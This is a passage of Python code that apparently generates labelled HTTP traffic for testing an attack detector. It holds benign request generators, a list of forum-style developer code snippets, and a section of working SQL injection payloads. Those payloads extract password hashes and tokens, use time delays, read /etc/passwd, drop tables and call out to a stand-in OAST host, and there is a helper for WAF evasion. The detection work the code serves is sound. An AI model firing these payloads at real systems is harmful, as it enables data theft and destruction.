                                 "ip": "203.0.113.%d" % rng.randint(1, 254), "geo": {"allow": ["DE", "AT", "CH"]}})))
    return out


def b_image_transform():
    rng, out = R("image_transform"), []
    for i in range(15):
        kind = i % 6
        a = asset_id(rng)
        if kind == 0:
            uri = "/image/upload/w_%d,h_%d,c_fill,g_auto,q_auto,f_auto/v%d/thumbs/%s.jpg" % (rng.choice([320, 400, 640]), rng.choice([180, 225, 360]), 1712900000 + rng.randint(0, 99999), a)
        elif kind == 1:
            txt = rng.choice(["Episode 12 \u2014 \"The Heist\"", "LIVE NOW!", "Part 2/3", "50% OFF"])
            uri = "/image/upload/l_text:Arial_48_bold:%s,co_white,g_south,y_40/w_1280/v1/banners/%s.png" % (pq(txt, safe="").replace("%2C", "%252C").replace("%2F", "%252F"), a)
        elif kind == 2:
            uri = "/thumbs/%s.jpg?%s" % (a, qs([("w", str(rng.choice([400, 800]))), ("h", "225"), ("fit", "crop"), ("crop", "faces,edges"), ("auto", "format,compress"), ("dpr", "2")]))
        elif kind == 3:
            uri = "/unsafe/%dx%d/smart/filters:quality(%d):format(webp)/%s/thumbs/%s.jpg" % (rng.choice([300, 640]), rng.choice([200, 360]), rng.choice([70, 80, 90]), VID_CDN, a)
        elif kind == 4:
            uri = "/cdn-cgi/image/width=%d,quality=%d,format=auto,fit=cover/thumbs/%s.jpg" % (rng.choice([400, 1200]), rng.choice([75, 85]), a)
        else:
            uri = "/resize/w_400,h_300,c_fill/avatars/%s.png" % hexid(rng, 16)
            if rng.random() < 0.5:
                uri = "/_next/image?%s" % qs([("url", "/avatars/%s.png" % hexid(rng, 16)), ("w", "640"), ("q", "75")])
        h = [["Host", IMG], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "image/avif,image/webp,image/apng,image/*,*/*;q=0.8"],
             ["Referer", VID_WEB + "/"], ["Accept-Encoding", "gzip, deflate, br"]]
        out.append(mk("benign", "image_transform", "GET", uri, h))
    return out


def b_oauth_device():
    rng, out = R("oauth_device"), []
    for i in range(14):
        kind = i % 7
        cid = b62(rng, 24)
        fh = [["Host", G_AUTH], ["User-Agent", rng.choice(UNREAL_UAS + CONSOLE_UAS)], ["Content-Type", "application/x-www-form-urlencoded"], ["Accept", "application/json"]]
        if kind == 0:
            out.append(mk("benign", "oauth_device", "POST", "/oauth/device/code", fh, form([("client_id", cid), ("scope", "openid profile offline_access play")])))
        elif kind == 1:
            out.append(mk("benign", "oauth_device", "POST", "/oauth/token", fh, form([("grant_type", "urn:ietf:params:oauth:grant-type:device_code"),
                                                                                  ("device_code", b64url(rbytes(rng, 32))), ("client_id", cid)])))
        elif kind == 2:
            code = "%s-%s" % ("".join(rng.choice("BCDFGHJKLMNPQRSTVWXZ") for _ in range(4)), "".join(rng.choice("BCDFGHJKLMNPQRSTVWXZ") for _ in range(4)))
            out.append(mk("benign", "oauth_device", "GET", "/activate?user_code=%s" % code,
                          browser(rng, G_AUTH, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")))
        elif kind == 3:
            out.append(mk("benign", "oauth_device", "POST", "/v1/auth/xbox", game(rng, G_AUTH, engine="unreal", ctype="application/json", auth=False),
                          jdump({"xsts_token": "XBL3.0 x=%d;%s" % (rng.randint(10**18, 10**19), jwt(rng, aud="rp://api.ironforge-games.com/")), "sandbox": "RETAIL"})))
        elif kind == 4:
            out.append(mk("benign", "oauth_device", "POST", "/v1/auth/steam", game(rng, G_AUTH, engine="unity", ctype="application/json", auth=False),
                          jdump({"ticket": hexid(rng, 480).upper(), "appid": 1234560, "identity": "ironforge-auth"})))
        elif kind == 5:
            verifier = b64url(rbytes(rng, 32))
            challenge = b64url(hashlib.sha256(verifier.encode()).digest())
            out.append(mk("benign", "oauth_device", "GET", "/oauth/authorize?%s" % qs([("response_type", "code"), ("client_id", cid), ("redirect_uri", G_WEB + "/auth/callback"),
                                                                                         ("scope", "openid profile email"), ("state", b64url(rbytes(rng, 16))),
                                                                                         ("code_challenge", challenge), ("code_challenge_method", "S256"), ("prompt", "consent")]),
                          browser(rng, G_AUTH, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")))
        else:
            out.append(mk("benign", "oauth_device", "POST", "/oauth/token", fh, form([("grant_type", "refresh_token"), ("refresh_token", b64url(rbytes(rng, 48))),
                                                                                  ("client_id", cid), ("redirect_uri", "orbis://games/callback")])))
    return out


def benign_all():
    gens = [b_hls_manifest, b_hls_segment, b_dash, b_upload_init, b_upload_chunk, b_upload_complete, b_drm_license, b_subtitles,
            b_podcast_feed, b_playlist_edit, b_lyrics, b_music_search, b_chat, b_live_stream,
            b_matchmaking, b_leaderboard, b_player_profile, b_inventory, b_telemetry, b_anticheat, b_mod_upload, b_savegame,
            b_crash_report, b_social, b_server_browser, b_patch_manifest, b_ugc_level,
            b_ticketing, b_comments, b_reco_beacon, b_cdn_purge, b_image_transform, b_oauth_device]
    out = []
    for g in gens:
        out.extend(g())
    return out


# --------------------------------------------------------------------------
# dev-content: modders and developers posting code (still "pass")
# --------------------------------------------------------------------------

DEV_SNIPPETS = [
    ("lua", "DataStore load fails silently?", '''local Players = game:GetService("Players")
local DataStoreService = game:GetService("DataStoreService")
local store = DataStoreService:GetDataStore("PlayerSaves_v2")

Players.PlayerAdded:Connect(function(player)
    local ok, data = pcall(function()
        return store:GetAsync("user_" .. player.UserId)
    end)
    if not ok then
        warn("load failed for " .. player.Name .. ": " .. tostring(data))
    end
end)'''),
    ("lua", "Slash command not registering", '''local frame = CreateFrame("Frame", "MyAddonFrame", UIParent)
frame:RegisterEvent("PLAYER_ENTERING_WORLD")
frame:SetScript("OnEvent", function(self, event, ...)
  print("|cff00ff00MyAddon|r loaded. Type /myaddon for options.")
end)
SLASH_MYADDON1 = "/myaddon"
SlashCmdList["MYADDON"] = function(msg) MyAddon_Toggle(msg) end'''),
    ("lua", "[Factorio] recipe shows up unlocked", '''data:extend({
  {
    type = "recipe",
    name = "better-belt",
    enabled = false,
    ingredients = {{"iron-plate", 5}, {"transport-belt", 1}},
    result = "better-belt"
  }
})'''),
    ("lua", "LOVE2D save file ends up empty", '''function saveGame(state)
  local f = io.open(love.filesystem.getSaveDirectory() .. "/save.dat", "w")
  if not f then return false end
  f:write(serialize(state))
  f:close()
  return true
end'''),
    ("csharp", "UnityWebRequest POST returns 415", '''using UnityEngine;
using UnityEngine.Networking;
using System.Collections;

public class LeaderboardClient : MonoBehaviour
{
    [SerializeField] private string baseUrl = "https://api.ironforge-games.com/v1/leaderboards/";

    public IEnumerator Submit(string board, int score)
    {
        var json = JsonUtility.ToJson(new ScorePayload { score = score });
        using (var req = new UnityWebRequest(baseUrl + board + "/scores", "POST"))
        {
            req.uploadHandler = new UploadHandlerRaw(System.Text.Encoding.UTF8.GetBytes(json));
            req.downloadHandler = new DownloadHandlerBuffer();
            req.SetRequestHeader("Content-Type", "application/json");
            yield return req.SendWebRequest();
            if (req.result != UnityWebRequest.Result.Success)
                Debug.LogError($"Submit failed: {req.error}");
        }
    }
}'''),
    ("csharp", "Harmony prefix never runs (RimWorld 1.5)", '''[HarmonyPatch(typeof(Pawn), nameof(Pawn.Kill))]
public static class Pawn_Kill_Patch
{
    static bool Prefix(Pawn __instance, DamageInfo? dinfo)
    {
        if (__instance.Faction == Faction.OfPlayer && Settings.noDeath) return false;
        return true;
    }
}'''),
    ("csharp", "Mod manager: launch game with args", '''var psi = new ProcessStartInfo
{
    FileName = Path.Combine(gameDir, "ShatterPoint.exe"),
    Arguments = "-windowed -novid -mods=\\"BetterHUD;QoL_Tweaks\\"",
    UseShellExecute = false,
    WorkingDirectory = gameDir
};
using var proc = Process.Start(psi);
await proc.WaitForExitAsync();'''),
    ("csharp", "Object pooling for bullets", '''public class BulletPool : MonoBehaviour {
    [SerializeField] GameObject prefab;
    readonly Queue<GameObject> pool = new();
    public GameObject Get() {
        var go = pool.Count > 0 ? pool.Dequeue() : Instantiate(prefab);
        go.SetActive(true);
        return go;
    }
    public void Release(GameObject go) { go.SetActive(false); pool.Enqueue(go); }
}'''),
    ("hlsl", "Toon shader banding looks wrong", '''float4 frag (v2f i) : SV_Target
{
    float3 n = normalize(i.worldNormal);
    float ndl = saturate(dot(n, _WorldSpaceLightPos0.xyz));
    float4 col = tex2D(_MainTex, i.uv) * _Color;
    col.rgb *= lerp(_ShadowColor.rgb, 1, step(0.5, ndl));
    return col;
}'''),
    ("glsl", "Post-process wobble + desaturate", '''#version 330 core
in vec2 vUV;
out vec4 FragColor;
uniform sampler2D uScene;
uniform float uTime;
void main() {
    vec2 uv = vUV + 0.003 * vec2(sin(uTime + vUV.y * 40.0), 0.0);
    vec3 c = texture(uScene, uv).rgb;
    c = mix(c, vec3(dot(c, vec3(0.299, 0.587, 0.114))), 0.6);
    FragColor = vec4(c, 1.0);
}'''),
    ("hlsl", "Compute shader: particle update", '''RWStructuredBuffer<Particle> particles : register(u0);
cbuffer Params : register(b0) { float dt; float3 gravity; };
[numthreads(256, 1, 1)]
void CSMain(uint3 id : SV_DispatchThreadID)
{
    Particle p = particles[id.x];
    p.vel += gravity * dt;
    p.pos += p.vel * dt;
    if (p.pos.y < 0) { p.pos.y = 0; p.vel.y *= -0.5; }
    particles[id.x] = p;
}'''),
    ("sql", "Top 10 per season query is slow", '''SELECT player_id, MAX(score) AS best
FROM scores
WHERE season = 7
GROUP BY player_id
ORDER BY best DESC
LIMIT 10;'''),
    ("sql", "RANK() vs DENSE_RANK() for ties?", '''SELECT p.name, s.score,
       RANK() OVER (ORDER BY s.score DESC) AS rnk,
       DENSE_RANK() OVER (ORDER BY s.score DESC) AS dense_rnk
FROM leaderboard s
JOIN players p ON p.id = s.player_id
WHERE s.board_id = $1;'''),
    ("sql", "Migration for item durability", '''ALTER TABLE inventory ADD COLUMN durability INT NOT NULL DEFAULT 100;
CREATE INDEX idx_inventory_player ON inventory (player_id, slot);
UPDATE inventory SET durability = 50 WHERE item_id LIKE 'wpn_%' AND acquired_at < '2024-01-01';'''),
    ("sql", "Why does my UNION return duplicates?", '''-- drops table is split per year
SELECT item_id, COUNT(*) FROM drops_2023 GROUP BY item_id
UNION ALL
SELECT item_id, COUNT(*) FROM drops_2024 GROUP BY item_id;
-- I expected one row per item_id but get two'''),
    ("sql", "SQLite: clean up old save slots", '''DELETE FROM saves
WHERE slot = ?1
  AND updated_at < ?2;
VACUUM;'''),
    ("shell", "Best ffmpeg settings for gameplay uploads?", '''ffmpeg -i gameplay.mkv -c:v libx264 -preset slow -crf 18 \\
  -c:a aac -b:a 192k -movflags +faststart out.mp4'''),
    ("shell", "Packaging HLS with two renditions", '''ffmpeg -i in.mp4 -map 0:v -map 0:a -map 0:v -map 0:a \\
  -c:v h264 -b:v:0 5000k -s:v:0 1920x1080 -b:v:1 1500k -s:v:1 960x540 -c:a aac \\
  -f hls -hls_time 6 -hls_playlist_type vod -master_pl_name master.m3u8 \\
  -var_stream_map "v:0,a:0 v:1,a:1" out_%v.m3u8'''),
    ("shell", "Dedicated server won't show in browser", '''steamcmd +force_install_dir /opt/valheim +login anonymous +app_update 896660 validate +quit
cd /opt/valheim
./start_server.sh -name "Rusty's Vikings" -port 2456 -world "Dedicated" -password "changeme" -public 1'''),
    ("shell", "Cron job to back up saves", '''#!/bin/bash
set -euo pipefail
SRC="$HOME/.local/share/Steam/steamapps/compatdata/1234560/pfx/drive_c/users/steamuser/AppData/LocalLow/Ironforge"
tar -czf "$HOME/backups/saves-$(date +%F).tar.gz" -C "$SRC" .
find "$HOME/backups" -name 'saves-*.tar.gz' -mtime +14 -delete'''),
    ("shell", "Proton launch options for DX12", '''PROTON_LOG=1 WINEDLLOVERRIDES="dxgi=n,b" %command% -dx12 -skipintro'''),
    ("powershell", "Where are the crash logs?", '''Get-ChildItem "$env:LOCALAPPDATA\\ShatterPoint\\Saved\\Logs" |
  Sort-Object LastWriteTime -Descending |
  Select-Object -First 1 |
  Get-Content -Tail 50'''),
    ("gdscript", "Godot 4: diagonal movement too fast", '''extends CharacterBody2D

@export var speed := 200.0

func _physics_process(delta):
\tvar dir := Input.get_vector("left", "right", "up", "down")
\tvelocity = dir * speed
\tmove_and_slide()'''),
    ("mcfunction", "Datapack: respawn players who died", '''execute as @a[scores={deaths=1..}] at @s run tp @s ~ ~10 ~
scoreboard players set @a deaths 0
tellraw @a {"text":"Respawned!","color":"gold"}'''),
    ("mcfunction", "Give item with custom name", '''give @p minecraft:diamond_sword[custom_name='{"text":"Excalibur","italic":false}',enchantments={levels:{"minecraft:sharpness":5}}] 1'''),
    ("python", "Script to dump the leaderboard", '''import requests

r = requests.get("https://api.ironforge-games.com/v1/leaderboards/ranked_s7", params={"limit": 100}, timeout=10)
r.raise_for_status()
for e in r.json()["entries"]:
    print(f"{e['rank']:>4} {e['name']:<20} {e['score']}")'''),
    ("python", "SRT parser regex misses last cue", '''import re

CUE = re.compile(r"(\\d+)\\n(\\d{2}:\\d{2}:\\d{2},\\d{3}) --> (\\d{2}:\\d{2}:\\d{2},\\d{3})\\n(.*?)(?:\\n\\n|\\Z)", re.S)

def parse(text):
    return [(int(n), a, b, body.replace("<i>", "").replace("</i>", "")) for n, a, b, body in CUE.findall(text)]'''),
    ("python", "Blender: batch export to glTF", '''import bpy, os

out = bpy.path.abspath("//export")
os.makedirs(out, exist_ok=True)
for obj in bpy.context.selected_objects:
    bpy.ops.object.select_all(action="DESELECT")
    obj.select_set(True)
    bpy.ops.export_scene.gltf(filepath=os.path.join(out, obj.name + ".glb"), use_selection=True)'''),
    ("javascript", "tmi.js bot replies twice", '''client.on('message', (channel, tags, message, self) => {
  if (self) return;
  if (message.toLowerCase() === '!hello') {
    client.say(channel, `@${tags.username}, heya!`);
  }
});'''),
    ("javascript", "Chat filter for invite links", '''const INVITE = /(?:https?:\\/\\/)?(?:www\\.)?discord(?:\\.gg|app\\.com\\/invite)\\/[a-z0-9]+/i;
export function shouldDelete(msg) {
  return INVITE.test(msg.text) && !msg.badges.includes('moderator');
}'''),
    ("html", "OBS browser source alert overlay", '''<div id="alert" class="hidden"><img src="alert.gif"><span id="name"></span></div>
<script>
const ws = new WebSocket('wss://alerts.streamhaven.live/v1?token=YOUR_TOKEN');
ws.onmessage = (e) => {
  const d = JSON.parse(e.data);
  document.getElementById('name').textContent = d.user + ' just followed!';
  document.getElementById('alert').classList.remove('hidden');
};
</script>'''),
    ("cpp", "Unreal: inventory AddItem crashes", '''bool UInventoryComponent::AddItem(const FName ItemId, int32 Count)
{
    if (Count <= 0) return false;
    FInventorySlot* Slot = Slots.FindByPredicate([&](const FInventorySlot& S) { return S.ItemId == ItemId; });
    if (Slot == nullptr)
    {
        Slots.Add(FInventorySlot{ItemId, Count});
    }
    else
    {
        Slot->Count += Count;
    }
    OnInventoryChanged.Broadcast();
    return true;
}'''),
    ("ini", "Config tweaks for Steam Deck", '''[/Script/Engine.GameUserSettings]
bUseVSync=False
FrameRateLimit=40.000000
ResolutionSizeX=1280
ResolutionSizeY=800

[ScalabilityGroups]
sg.ShadowQuality=1
sg.PostProcessQuality=1'''),
    ("papyrus", "Skyrim quest script never fires OnInit", '''Scriptname MyQuestScript extends Quest

Event OnInit()
    Debug.Notification("Mod loaded!")
    RegisterForSingleUpdate(5.0)
EndEvent

Event OnUpdate()
    Game.GetPlayer().AddItem(Gold001, 100)
EndEvent'''),
    ("yaml", "docker-compose for a Minecraft server", '''services:
  mc:
    image: itzg/minecraft-server
    ports:
      - "25565:25565"
    environment:
      EULA: "TRUE"
      TYPE: "PAPER"
      MEMORY: "6G"
    volumes:
      - ./data:/data
    restart: unless-stopped'''),
    ("nginx", "Serving HLS from nginx", '''location /hls {
    types {
        application/vnd.apple.mpegurl m3u8;
        video/mp2t ts;
    }
    root /var/www;
    add_header Cache-Control no-cache;
    add_header Access-Control-Allow-Origin *;
}'''),
    ("rust", "Bevy: despawn entities out of bounds", '''fn despawn_offscreen(mut commands: Commands, q: Query<(Entity, &Transform), With<Bullet>>) {
    for (e, t) in &q {
        if t.translation.length() > 2000.0 {
            commands.entity(e).despawn_recursive();
        }
    }
}'''),
    ("php", "Server list site: filtering by region", '''<?php
$stmt = $pdo->prepare('SELECT name, ip, port, players FROM servers WHERE region = ? ORDER BY players DESC');
$stmt->execute([$_GET['region'] ?? 'eu']);
foreach ($stmt as $row) {
    echo htmlspecialchars($row['name']), "\\n";
}'''),
    ("java", "Paper plugin: welcome message colour", '''@EventHandler
public void onJoin(PlayerJoinEvent e) {
    Player p = e.getPlayer();
    p.sendMessage(ChatColor.GOLD + "Welcome, " + p.getName() + "!");
    getLogger().info(p.getName() + " joined from " + p.getAddress());
}'''),
    ("xml", "log4j2 pattern for the server console", '''<Configuration status="WARN">
  <Appenders>
    <Console name="Console" target="SYSTEM_OUT">
      <PatternLayout pattern="%d{HH:mm:ss} [%t] %-5level %logger{36} - %msg%n"/>
    </Console>
  </Appenders>
  <Loggers><Root level="info"><AppenderRef ref="Console"/></Root></Loggers>
</Configuration>'''),
    ("json", "Mod manifest schema question", '''{
  "id": "better_hud",
  "version": "1.3.0",
  "dependencies": { "core": ">=1.4.0 <2.0.0", "ui_lib": "^2.1" },
  "load_after": ["qol_tweaks"],
  "entry": "scripts/main.lua"
}'''),
    ("csharp", "Unity: deserialize save with Newtonsoft", '''var settings = new JsonSerializerSettings
{
    TypeNameHandling = TypeNameHandling.None,
    MissingMemberHandling = MissingMemberHandling.Ignore
};
var save = JsonConvert.DeserializeObject<SaveData>(File.ReadAllText(path), settings);'''),
    ("lua", "Garry's Mod: concommand to reset stats", '''concommand.Add("stats_reset", function(ply, cmd, args)
    if not IsValid(ply) or not ply:IsAdmin() then return end
    local target = player.GetBySteamID(args[1] or "")
    if target then
        target:SetNWInt("kills", 0)
        ply:ChatPrint("Reset stats for " .. target:Nick())
    end
end)'''),
    ("shell", "Twitch VOD to clips with timestamps", '''while IFS=, read -r start dur name; do
  ffmpeg -ss "$start" -t "$dur" -i vod.mp4 -c copy "clips/${name}.mp4"
done < clips.csv'''),
    ("glsl", "Shadertoy: CRT scanlines", '''void mainImage(out vec4 fragColor, in vec2 fragCoord) {
    vec2 uv = fragCoord / iResolution.xy;
    vec3 col = texture(iChannel0, uv).rgb;
    col *= 0.8 + 0.2 * sin(fragCoord.y * 3.14159);
    fragColor = vec4(col, 1.0);
}'''),
    ("sql", "Postgres: matchmaking pool by MMR bucket", '''SELECT width_bucket(mmr, 0, 4000, 40) AS bucket, count(*) AS players, avg(wait_s)::int AS avg_wait
FROM mm_queue
WHERE region = 'eu-west-1' AND enqueued_at > now() - interval '5 minutes'
GROUP BY 1
ORDER BY 1;'''),
]


def dev_all():
    rng, out = R("dev_content"), []
    for i, (lang, title, code) in enumerate(DEV_SNIPPETS):
        md = "%s\n\n```%s\n%s\n```\n\n%s" % (
            rng.choice(["Hey all, I'm stuck on this:", "Posting in case it helps someone:", "Any idea what I'm doing wrong here?",
                        "Works in editor, breaks in build. Snippet below.", "Quick question \u2014"]),
            lang, code, rng.choice(["Thanks in advance!", "(using the latest patch)", "edit: typo", "Cheers <3", ""]))
        shape = i % 4
        if shape == 0:
            h = browser(rng, G_FORUM, origin="https://" + G_FORUM) + [["Content-Type", "application/json"], ["X-CSRF-Token", b62(rng, 40)]]
            out.append(mk("dev-content", "forum_post", "POST", "/api/v1/threads/%d/posts" % rng.randint(10000, 99999), h,
                          jdump({"raw": md, "title": title, "category": rng.choice(["modding", "scripting", "shaders", "servers"])})))
        elif shape == 1:
            h = browser(rng, G_FORUM, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", origin="https://" + G_FORUM) + [
                ["Content-Type", "application/x-www-form-urlencoded"]]
            out.append(mk("dev-content", "forum_post", "POST", "/posting.php?mode=reply&f=%d&t=%d" % (rng.randint(2, 40), rng.randint(1000, 90000)), h,
                          form([("subject", "Re: " + title), ("message", md), ("attach_sig", "on"), ("creation_time", str(1714000000 + rng.randint(0, 99999))),
                                ("form_token", hexid(rng, 40)), ("post", "Submit")])))
        elif shape == 2:
            h = api(rng, G_MODS, ctype="application/json", extra=[["Origin", "https://" + G_MODS]])
            out.append(mk("dev-content", "snippet", "POST", "/api/v1/pastes", h,
                          jdump({"title": title, "syntax": lang, "content": code, "expires": rng.choice(["1d", "1w", "never"]), "visibility": "unlisted"})))
        else:
            h = api(rng, G_MODS, ctype="application/json", extra=[["Origin", "https://" + G_MODS]])
            out.append(mk("dev-content", "mod_changelog", "PATCH", "/api/v1/mods/%d/description" % rng.randint(1000, 50000), h,
                          jdump({"description_md": "## %s\n\nExample:\n\n```%s\n%s\n```" % (title, lang, code)})))
    # a few snippets attached as files to a mod-portal question
    for lang, fname, code in [("lua", "main.lua", DEV_SNIPPETS[0][2]), ("csharp", "LeaderboardClient.cs", DEV_SNIPPETS[4][2]),
                              ("hlsl", "Toon.shader", DEV_SNIPPETS[8][2]), ("shell", "backup.sh", DEV_SNIPPETS[19][2])]:
        ct, body = multipart(rng, [("title", None, None, "Help: %s doesn't work" % fname), ("body", None, None, "File attached, thanks!"),
                                   ("attachment", fname, "text/plain", code)])
        h = browser(rng, G_FORUM, origin="https://" + G_FORUM) + [["Content-Type", ct], ["X-CSRF-Token", b62(rng, 40)]]
        out.append(mkraw("dev-content", "forum_attachment", "POST", "/api/v1/threads", h, body))
    return out


# --------------------------------------------------------------------------
# attacks
# --------------------------------------------------------------------------

ATK_IP = "198.51.100.7"
OAST = "c0ffee1d2e3f4a5b.oast.fun"


def dbl(s):
    """Double percent-encoding, as a WAF-evading client sends it."""
    return pq(pq(s))


def a_sqli():
    rng, out = R("a_sqli"), []
    c = "sqli"

    def lb(sub, params, board=None):
        uri = "/v1/leaderboards/%s?%s" % (board or rng.choice(["ranked_s7", "weekly_time_trial", "kills_alltime"]), qs(params))
        out.append(mk(c, sub, "GET", uri, game(rng, G_API)))

    # leaderboard sort / order / filter parameters (ORDER BY injection)
    lb("leaderboard_sort", [("sort", "score,(SELECT CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM admins LIMIT 1)='$' THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"), ("limit", "50")])
    lb("leaderboard_sort", [("sort", "score"), ("order", "desc,IF((SELECT COUNT(*) FROM information_schema.tables WHERE table_schema=database())>40,SLEEP(5),0)")])
    lb("leaderboard_sort", [("sort", "(CASE WHEN (ASCII(SUBSTR((SELECT api_key FROM service_accounts LIMIT 1),1,1))>77) THEN score ELSE time_ms END)"), ("order", "asc")])
    lb("leaderboard_sort", [("sort", "score"), ("offset", "0 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,(SELECT version()))),1)")])
    lb("leaderboard_filter", [("season", "S7' UNION SELECT username,password_hash,email,NULL,NULL FROM accounts-- -"), ("limit", "100")])
    lb("leaderboard_filter", [("filter", "country:DE' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- -")])
    lb("leaderboard_filter", [("limit", "50;WAITFOR DELAY '0:0:7'--"), ("sort", "score")])
    out.append(mk(c, "leaderboard_filter", "GET", "/v1/leaderboards/ranked_s7?platform=pc%27%29%29%20OR%201%3D1--%20-&limit=50", game(rng, G_API)))
    lb("leaderboard_filter", [("around_player", "1 AND 1=(SELECT 1 FROM PG_SLEEP(6))"), ("range", "5")])
    out.append(mk(c, "leaderboard_path", "GET", "/v1/leaderboards/weekly%27%20AND%20(SELECT%205321%20FROM%20(SELECT(SLEEP(5)))a)--%20x/entries?range=10", game(rng, G_API)))
    lb("leaderboard_filter", [("season", "S7' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 AND 'a'='a")])
    out.append(mk(c, "leaderboard_sort", "GET", "/v1/leaderboards/kills_alltime?sort=score&order=updatexml(1,concat(0x7e,(select%20user()),0x7e),1)", browser(rng, G_API, origin=G_WEB)))

    # music / video search
    def srch(sub, q, host=MUS_API):
        out.append(mk(c, sub, "GET", "/v1/search?%s" % qs([("q", q), ("type", "artist,track"), ("limit", "20")]),
                      api(rng, host, ua=rng.choice(BROWSER_UAS), extra=[["Origin", MUS_WEB]])))
    srch("search", "Guns N' Roses' UNION ALL SELECT NULL,CONCAT(email,0x3a,password),NULL FROM users#")
    out.append(mk(c, "search", "GET", "/search/1%27%20ORDER%20BY%2012--%20-", browser(rng, "open.tunewave.fm", accept="text/html,*/*;q=0.8")))
    out.append(mk(c, "search", "GET", "/v1/search?q=x%2527%2520UnIoN%2520SeLeCt%25201%252C2%252Cgroup_concat(table_name)%2520FrOm%2520information_schema.tables--%2520-&type=track",
                  api(rng, MUS_API, extra=[["Origin", MUS_WEB]])))
    srch("search", "x' /*!50000UNION*/ /*!50000SELECT*/ table_name,2,3 FROM information_schema.tables WHERE table_schema=database()-- -")
    srch("search", "AC/DC'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'")
    srch("search", "zzz' UNION SELECT sql,name,3 FROM sqlite_master WHERE type='table'--")
    srch("search", "abba' AND 1=UTL_INADDR.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--")
    srch("search", "1'/**/oR/**/1=1/**/--/**/")
    out.append(mk(c, "search", "GET", "/api/v2/videos/search?%s" % qs([("q", "cats"), ("sort", "views"), ("channel", "9123' AND 1=(SELECT TOP 1 CAST(name AS int) FROM sys.tables)--")]),
                  api(rng, VID_API, extra=[["Origin", VID_WEB]])))
    srch("search", "x' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -")

    # ticketing seat ids and event ids
    out.append(mk(c, "ticket_seat", "POST", "/v2/events/4411822/holds", browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/json"]],
                  jdump({"seats": ["SEC101-ROW-F-12' OR '1'='1", "SEC101-ROW-F-13"], "ticket_type": "adult"})))
    out.append(mk(c, "ticket_seat", "GET", "/v2/events/4411822/seatmap?" + qs([("section", "101 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"), ("price_level", "2")]),
                  browser(rng, TIX_API, origin=TIX_WEB)))
    out.append(mk(c, "ticket_seat", "GET", "/v2/events/4411822%20or%20sleep(5)%23/seatmap?section=101", browser(rng, TIX_API, origin=TIX_WEB)))
    out.append(mk(c, "ticket_seat", "POST", "/v2/orders", browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/x-www-form-urlencoded"]],
                  form([("hold_id", "88123'; EXEC master..xp_dirtree '\\\\%s\\a'--" % OAST), ("payment", "card")])))

    # playlists / tracks / JSON bodies
    out.append(mk(c, "playlist", "DELETE", "/v1/playlists/%s/tracks" % b62(rng, 22), api(rng, MUS_API, ctype="application/json", extra=[["Origin", MUS_WEB]]),
                  jdump({"tracks": [{"uri": "tunewave:track:%s" % b62(rng, 22)}], "snapshot_id": "MTY4' ; DROP TABLE playlist_tracks;--"})))
    out.append(mk(c, "playlist", "POST", "/v1/playlists/lookup", api(rng, MUS_API, ctype="application/json", extra=[["Origin", MUS_WEB]]),
                  '{"playlist_id":"37i9dQZF1DX\\u0027 UNION SELECT owner_email,refresh_token,3 FROM oauth_tokens-- -","fields":"name,owner"}'))
    out.append(mk(c, "matchmaking", "POST", "/v1/matchmaking/tickets", game(rng, G_MATCH, ctype="application/json"),
                  jdump({"playlist": "ranked_5v5' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
                         "party": {"id": uuid4(rng), "members": [{"player_id": uuid4(rng), "mmr": 1500}]}})))
    out.append(mk(c, "player_profile", "GET", "/v1/players/by-name/admin%27--%20?platform=steam", browser(rng, G_API, origin=G_WEB)))
    out.append(mk(c, "inventory", "GET", "/v1/players/%s/inventory?%s" % (uuid4(rng), qs([("category", "skins') UNION SELECT item_id,price,1,1 FROM store_offers WHERE ('a'='a"), ("page", "1")])),
                  game(rng, G_API)))
    out.append(mk(c, "podcast", "GET", "/api/v1/episodes?show_id=-1%20UNION%20SELECT%201,@@version,3,4--%20&limit=10", api(rng, POD_API, ua=rng.choice(PODCAST_UAS))))
    out.append(mk(c, "leaderboard_score", "POST", "/v1/leaderboards/highscore_endless/scores", game(rng, G_API, ctype="application/json"),
                  jdump({"score": "1; UPDATE players SET role='admin' WHERE name='xX_D3str0y3r_Xx';--", "run_id": uuid4(rng)})))
    out.append(mk(c, "graphql", "POST", "/graphql", api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]),
                  jdump({"operationName": "Video", "query": "query Video($id: ID!) { video(id: $id) { title views channel { name } } }",
                         "variables": {"id": "1' AND 1=CAST((SELECT current_user) AS int)--"}})))
    # headers and cookies of game clients
    h = game(rng, G_API, extra=[["Cookie", "region=eu-west-1' AND SLEEP(5)-- -; lang=en"]])
    out.append(mk(c, "header", "GET", "/v1/store/offers?page=1", h))
    h = game(rng, G_TELE, ctype="application/json", auth=False, extra=[["X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"]])
    out.append(mk(c, "header", "POST", "/v1/events/batch", h, jdump(telemetry_batch(rng))))
    h = api(rng, VID_API, extra=[["X-Device-Id", "d7a1' UNION SELECT NULL,session_token FROM sessions WHERE '1'='1"]])
    out.append(mk(c, "header", "GET", "/api/v2/me/continue-watching", h))
    return out


def a_xss():
    rng, out = R("a_xss"), []
    c = "xss"

    def chat_json(msg, sub="chat"):
        out.append(mk(c, sub, "POST", "/helix/chat/messages", api(rng, LIVE_API, ctype="application/json", extra=[["Client-Id", b62(rng, 30).lower()]]),
                      jdump({"broadcaster_id": str(rng.randint(10**7, 10**9)), "sender_id": str(rng.randint(10**7, 10**9)), "message": msg})))

    def chat_form(msg):
